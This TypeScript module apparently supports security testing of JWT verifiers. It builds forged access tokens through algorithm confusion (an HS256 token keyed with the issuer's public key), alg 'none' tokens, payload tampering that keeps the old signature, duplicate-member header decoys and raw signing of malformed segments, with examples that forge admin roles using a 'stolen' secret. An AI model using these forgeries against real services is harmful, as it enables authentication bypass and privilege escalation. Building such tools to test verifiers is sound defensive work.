import { constants, createHmac, createPrivateKey, randomUUID, sign, type JsonWebKey, type KeyObject } from 'node:crypto';
import { SignJWT, base64url, exportSPKI, importJWK, type JWK, type JWTPayload } from 'jose';

/** The media type of an RFC 9068 access token (§2.1), which a forger writes as the issuer does. */
const ACCESS_TOKEN_TYPE = 'at+jwt';

/** The header members a forged token may set or override. */
export interface ForgedHeader {
  readonly alg?: string;
  readonly kid?: string;
  /** `null` leaves `typ` out. */
  readonly typ?: string | null;
  readonly crit?: readonly string[];
  readonly [member: string]: unknown;
}

/**
 * Claims of an access token as an attacker would write them, with sensible defaults: issued now,
 * valid five minutes, a fresh jti.
 *
 * @example
 * accessTokenClaims({ iss, aud: 'mobile-api', sub: 'admin', roles: ['admin'] });
 */
export function accessTokenClaims(claims: JWTPayload & { roles?: readonly string[] }, now = Math.floor(Date.now() / 1000)): JWTPayload {
  return { iat: now, exp: now + 300, jti: randomUUID(), ...claims };
}

/**
 * Signs any claims with any JWK (a secret or a private key), writing the header as given: the
 * signing half of every forgery, and of every test token.
 *
 * @example
 * await signWithJwk(stolenSecret, accessTokenClaims({ iss, aud, sub: 'admin', roles: ['admin'] }));
 */
export async function signWithJwk(jwk: JWK, claims: JWTPayload, header: ForgedHeader = {}): Promise<string> {
  const alg = header.alg ?? jwk.alg ?? (jwk.kty === 'oct' ? 'HS256' : 'RS256');
  const key = await importJWK({ ...jwk, alg }, alg);
  return signWithKey(key, alg, claims, { kid: jwk.kid, ...header });
}

/**
 * The algorithm-confusion attack: an HS256 token whose HMAC secret is the issuer's *public* key, in
 * the PEM form a naive verifier would hand to its HMAC. A verifier that pins its algorithm refuses it.
 *
 * @example
 * await signWithPublicKeyAsSecret(issuerPublicJwk, claims);
 */
export async function signWithPublicKeyAsSecret(publicJwk: JWK, claims: JWTPayload, header: ForgedHeader = {}): Promise<string> {
  const publicKey = await importJWK({ ...publicJwk, alg: 'RS256' }, 'RS256', { extractable: true });
  const pem = await exportSPKI(publicKey as Parameters<typeof exportSPKI>[0]);
  return signWithKey(new TextEncoder().encode(pem), 'HS256', claims, { kid: publicJwk.kid, ...header, alg: 'HS256' });
}

/**
 * An unsecured JWT (`alg: none`, RFC 7519 §6) with an empty signature.
 *
 * @example
 * unsecuredToken(claims, { kid: 'issuer.5e1f00d2' }); // 'eyJhbGciOiJub25lIi...eyJ...'.
 */
export function unsecuredToken(claims: JWTPayload, header: ForgedHeader = {}): string {
  const fullHeader = withTyp({ ...header, alg: 'none' });
  return `${base64url.encode(JSON.stringify(fullHeader))}.${base64url.encode(JSON.stringify(claims))}.`;
}

/**
 * The same token with its payload changed and its signature kept.
 *
 * @example
 * tamperPayload(token, (claims) => ({ ...claims, roles: ['admin'] }));
 */
export function tamperPayload(token: string, change: (claims: JWTPayload) => JWTPayload): string {
  const [header, payload, signature] = token.split('.');
  const claims = JSON.parse(new TextDecoder().decode(base64url.decode(payload ?? ''))) as JWTPayload;
  return `${header}.${base64url.encode(JSON.stringify(change(claims)))}.${signature}`;
}

async function signWithKey(key: Parameters<SignJWT['sign']>[0], alg: string, claims: JWTPayload, header: ForgedHeader): Promise<string> {
  const fullHeader = withTyp({ ...header, alg });
  const crit = Object.fromEntries((header.crit ?? []).map((member) => [member, true]));
  return new SignJWT(claims).setProtectedHeader(fullHeader as Parameters<SignJWT['setProtectedHeader']>[0]).sign(key, { crit });
}

function withTyp(header: ForgedHeader): Record<string, unknown> {
  const { typ, ...rest } = header;
  const clean = Object.fromEntries(Object.entries(rest).filter(([, value]) => value !== undefined));
  return typ === null ? clean : { ...clean, typ: typ ?? ACCESS_TOKEN_TYPE };
}

/** What a raw segment is written from: JSON text as given, bytes as given, or a value for JSON.stringify. */
export type RawSegment = string | Uint8Array | Readonly<Record<string, unknown>>;

/** The key a raw signature is made with: a JWK (a secret or a private key), a KeyObject, or raw HMAC secret bytes or text. */
export type RawSigningKey = JWK | KeyObject | Uint8Array | string;

export interface RawJwsOptions {
  /**
   * Writes the payload into the token as it is, unencoded (RFC 7797 `b64: false`): the signing input is
   * then `<encoded header>.<payload>`. The header is not changed: set `b64` and `crit` yourself.
   */
  readonly unencodedPayload?: boolean;
}

/**
 * Encodes text (as UTF-8) or bytes as one segment of a compact JWS: base64url without padding (RFC 7515 §2).
 *
 * @example
 * encodeSegment('{"alg":"none"}'); // 'eyJhbGciOiJub25lIn0'
 */
export function encodeSegment(value: string | Uint8Array): string {
  return Buffer.from(typeof value === 'string' ? Buffer.from(value, 'utf8') : value).toString('base64url');
}

/**
 * The JSON text of an object with one member written twice: first with `decoy`, last with the
 * object's own value, which is what `JSON.parse` keeps. A parser that reads the first of two
 * duplicates sees the decoy (RFC 7515 §4 lets a parser reject duplicates instead).
 *
 * @example
 * jsonWithDuplicate({ alg: 'HS256', kid }, 'alg', 'none'); // '{"alg":"none","kid":"...","alg":"HS256"}'
 */
export function jsonWithDuplicate(value: Readonly<Record<string, unknown>>, member: string, decoy: unknown): string {
  if (!Object.hasOwn(value, member)) throw new Error(`jsonWithDuplicate: the object has no "${member}" member`);
  const { [member]: kept, ...rest } = value;
  const decoyText = JSON.stringify({ [member]: decoy }).slice(1, -1);
  const restText = JSON.stringify(rest).slice(1, -1);
  const keptText = JSON.stringify({ [member]: kept }).slice(1, -1);
  return `{${[decoyText, restText, keptText].filter(Boolean).join(',')}}`;
}

/**
 * Signs a compact JWS from raw segments with any algorithm of RFC 7518 and RFC 8037 (HS*, RS*, PS*, ES*,
 * EdDSA), writing header and payload exactly as given: what jose refuses to write (a member named twice,
 * bytes that are not UTF-8, JSON that is not an object, an unencoded payload) can be signed too.
 *
 * @example
 * signRawJws(stolenSecret, 'HS256', '{"alg":"HS256","alg":"HS256"}', claims);
 * signRawJws(issuerKey, 'PS256', { alg: 'PS256', kid, typ: 'at+jwt' }, claims);
 */
export function signRawJws(key: RawSigningKey, alg: string, header: RawSegment, payload: RawSegment, options: RawJwsOptions = {}): string {
  const encodedHeader = encodeSegment(segmentBytes(header));
  const payloadBytes = segmentBytes(payload);
  const encodedPayload = options.unencodedPayload ? Buffer.from(payloadBytes).toString('latin1') : encodeSegment(payloadBytes);
  const input = Buffer.concat([
    Buffer.from(`${encodedHeader}.`, 'ascii'),
    options.unencodedPayload ? payloadBytes : Buffer.from(encodedPayload),
  ]);
  return `${encodedHeader}.${encodedPayload}.${signatureOf(alg, key, input).toString('base64url')}`;
}

/**
 * Signs the exact signing input `<first segment>.<second segment>` as written, and appends the signature:
 * for segments that are not what an encoder would write (another base64 alphabet, padding, a stray character).
 *
 * @example
 * signSigningInput(secret, 'HS256', `${headerInStandardBase64}.${encodedClaims}`);
 */
export function signSigningInput(key: RawSigningKey, alg: string, signingInput: string): string {
  return `${signingInput}.${signatureOf(alg, key, Buffer.from(signingInput, 'ascii')).toString('base64url')}`;
}

function segmentBytes(segment: RawSegment): Buffer {
  if (typeof segment === 'string') return Buffer.from(segment, 'utf8');
  if (segment instanceof Uint8Array) return Buffer.from(segment);
  return Buffer.from(JSON.stringify(segment), 'utf8');
}

const HASHES: Readonly<Record<string, string>> = { '256': 'sha256', '384': 'sha384', '512': 'sha512' };

function signatureOf(alg: string, key: RawSigningKey, input: Buffer): Buffer {
  const family = alg.slice(0, 2);
  const hash = HASHES[alg.slice(2)];
  if (family === 'HS' && hash) return createHmac(hash, hmacSecret(key)).update(input).digest();
  if (alg === 'EdDSA' || alg === 'Ed25519') return sign(null, input, privateKey(key));
  if (family === 'RS' && hash) return sign(hash, input, privateKey(key));
  if (family === 'PS' && hash) {
    return sign(hash, input, {
      key: privateKey(key),
      padding: constants.RSA_PKCS1_PSS_PADDING,
      saltLength: constants.RSA_PSS_SALTLEN_DIGEST,
    });
  }
  // RFC 7518 §3.4: an ECDSA signature is R || S, not DER.
  if (family === 'ES' && hash) return sign(hash, input, { key: privateKey(key), dsaEncoding: 'ieee-p1363' });
  throw new Error(`signRawJws: cannot sign with "${alg}"`);
}

function hmacSecret(key: RawSigningKey): Buffer | KeyObject {
  if (typeof key === 'string') return Buffer.from(key, 'utf8');
  if (key instanceof Uint8Array) return Buffer.from(key);
  if (isKeyObject(key)) return key;
  if (key.kty !== 'oct' || typeof key.k !== 'string') throw new Error(`signRawJws: HMAC needs a secret, not a ${key.kty ?? '?'} key`);
  return Buffer.from(key.k, 'base64url');
}

function privateKey(key: RawSigningKey): KeyObject {
  if (typeof key === 'string' || key instanceof Uint8Array) throw new Error('signRawJws: this algorithm needs a private key');
  if (isKeyObject(key)) return key;
  return createPrivateKey({ key: key as JsonWebKey, format: 'jwk' });
}

function isKeyObject(key: RawSigningKey): key is KeyObject {
  return typeof (key as KeyObject).export === 'function' && typeof (key as KeyObject).type === 'string';
}
